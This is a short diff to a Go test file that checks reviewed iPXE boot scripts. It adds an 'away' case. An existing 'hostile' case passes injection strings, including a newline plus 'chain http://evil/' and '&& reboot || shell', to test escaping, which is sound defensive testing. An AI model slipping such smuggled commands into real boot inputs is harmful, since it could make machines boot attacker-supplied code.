@@ -49,6 +49,7 @@ func TestScriptsAreAsReviewed(t *testing.T) {
 		"menu-bare": func() ([]byte, error) { return s.Menu(Menu{Title: "52:54:00:12:34:56"}), nil },
 		"memtest":   func() ([]byte, error) { return s.MemTest("prd-01", "http://10.77.0.1/boot/memtest86+x64.bin"), nil },
 		"wait":      func() ([]byte, error) { return s.Wait("prd-01", "quarantined: its identity does not match") },
+		"away":      func() ([]byte, error) { return s.Away("prd-01", "http://10.78.0.1", "/boot/ipxe") },
 		"hostile": func() ([]byte, error) {
 			return s.Wait("x\nchain http://evil/", "${net0/mac} && reboot || shell ; \"exit\" {{.}}")
 		},
